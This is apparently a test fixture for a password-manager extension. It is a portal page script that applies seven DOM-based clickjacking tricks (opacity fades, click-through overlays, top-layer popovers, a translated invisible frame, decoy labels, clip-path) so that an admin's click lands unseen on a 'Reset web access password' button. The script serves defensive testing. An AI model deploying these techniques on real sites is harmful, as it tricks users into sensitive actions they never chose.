// A clickjacking portal page (loaded by every page of the simulator in the
// clickjacking tests): "DOM-based extension clickjacking" (Marek Tóth,
// DEF CON 33, 2025). Each attack hides or disguises Passwright's panel so
// that the admin's real click lands on its "Reset web access password"
// button without the admin seeing it. The test picks the attack
// (window.__clickjack.apply) and takes it back (window.__clickjack.undo) to
// prove the same click works on a panel left alone.
//
// Styles go through the CSSOM: the portal's CSP (style-src 'self') blocks
// inline <style> and style attributes, not a script's element.style.
(() => {
  'use strict';
  const host = () => /** @type {HTMLElement} */ (document.querySelector('[data-passwright=panel]'));
  const frame = () => /** @type {HTMLIFrameElement} */ (host().querySelector('iframe'));
  /** @type {(() => void)[]} */
  let undo = [];

  /** Sets a style (important, so our panel's own styles lose) and remembers how to take it back. */
  const set = (/** @type {HTMLElement} */ el, /** @type {string} */ prop, /** @type {string} */ value) => {
    const old = el.style.getPropertyValue(prop);
    const priority = el.style.getPropertyPriority(prop);
    el.style.setProperty(prop, value, 'important');
    undo.push(() => (old ? el.style.setProperty(prop, old, priority) : el.style.removeProperty(prop)));
  };

  /** A page element that tells the admin something harmless. Its words are
   * in a shadow root: the agent's layout does not see them, so the panel is
   * not placed away from the decoy (an attacker adapts to that too). */
  const decoy = (/** @type {string} */ css, /** @type {string} */ text) => {
    const el = document.createElement('div');
    el.style.cssText = css;
    el.attachShadow({ mode: 'closed' }).textContent = text;
    (document.body ?? document.documentElement).appendChild(el);
    undo.push(() => el.remove());
    return el;
  };

  const FULL_PAGE = 'position:fixed;inset:0;width:100vw;height:100vh;margin:0;border:0;padding:40px;box-sizing:border-box;' +
    'background:#fff;color:#222;font:20px sans-serif;z-index:2147483647;pointer-events:none;';

  const attacks = {
    /** a. The panel's frame nearly invisible. */
    'fade-frame': () => set(frame(), 'opacity', '0.001'),
    /** b. The whole document faded (the root's filter reaches every layer, the top layer too). */
    'fade-document': () => {
      set(document.documentElement, 'filter', 'opacity(0.001)');
      set(document.documentElement, 'opacity', '0.001');
    },
    /** c. A full-page layer over everything, letting clicks through. Our
     * panel is in the top layer, where no z-index reaches: the page first
     * takes it out (removes its popover attribute). */
    'click-through-layer': () => {
      const h = host();
      h.removeAttribute('popover');
      undo.push(() => {
        h.popover = 'manual';
        h.showPopover();
      });
      decoy(FULL_PAGE, 'Your session is about to expire. Click anywhere to stay signed in.');
    },
    /** d. A page popover shown after ours: above it in the top layer, letting clicks through. */
    'top-layer-popover': () => {
      const el = decoy(FULL_PAGE, 'Loading your dashboard… click anywhere to continue.');
      el.popover = 'manual';
      el.showPopover();
    },
    /** e. The invisible frame moved (a translation) so that its button sits under the page's "Continue". */
    'continue-button': (/** @type {{x: number, y: number}} */ inFrame) => {
      const button = document.createElement('button');
      button.type = 'button';
      button.textContent = 'Continue';
      button.style.cssText = 'position:fixed;left:120px;top:520px;width:220px;height:44px;font:18px sans-serif;z-index:10;';
      (document.body ?? document.documentElement).appendChild(button);
      undo.push(() => button.remove());
      set(frame(), 'opacity', '0.001');
      const b = button.getBoundingClientRect();
      const f = frame().getBoundingClientRect();
      const dx = b.left + b.width / 2 - (f.left + inFrame.x);
      const dy = b.top + b.height / 2 - (f.top + inFrame.y);
      set(frame(), 'transform', `translate(${Math.round(dx)}px, ${Math.round(dy)}px)`);
      return { x: Math.round(b.left + b.width / 2), y: Math.round(b.top + b.height / 2) };
    },
    /** f. A small top-layer label over the panel's button alone, letting
     * clicks through: the admin reads "Continue" where the button says
     * "Reset web access password"; the rest of the panel is untouched. */
    'decoy-over-button': (/** @type {{x: number, y: number, w: number, h: number}} */ r) => {
      const el = decoy(
        `position:fixed;inset:auto;left:${r.x - 2}px;top:${r.y - 2}px;width:${r.w + 4}px;height:${r.h + 4}px;margin:0;padding:0;` +
          'border:0;background:#2e7d32;color:#fff;font:15px sans-serif;display:flex;align-items:center;justify-content:center;' +
          'pointer-events:none;overflow:hidden;',
        'Continue',
      );
      el.popover = 'manual';
      el.showPopover();
    },
    /** g. The frame clipped to its button alone (clip-path), the rest of the panel cut away. */
    'clip-to-button': (/** @type {{x: number, y: number, w: number, h: number}} */ r) => {
      const f = frame().getBoundingClientRect();
      const top = Math.max(0, Math.round(r.y - f.top));
      const left = Math.max(0, Math.round(r.x - f.left));
      const bottom = Math.max(0, Math.round(f.bottom - (r.y + r.h)));
      const right = Math.max(0, Math.round(f.right - (r.x + r.w)));
      set(frame(), 'clip-path', `inset(${top}px ${right}px ${bottom}px ${left}px)`);
    },
  };

  /** @type {any} */ (window).__clickjack = {
    /** Starts an attack; returns where the admin will click, if the attack says. */
    apply(/** @type {keyof typeof attacks} */ name, /** @type {any} */ arg) {
      return attacks[name](arg) ?? null;
    },
    /** Takes the attack back, in reverse order. */
    undo() {
      for (const f of undo.reverse()) f();
      undo = [];
    },
  };
})();
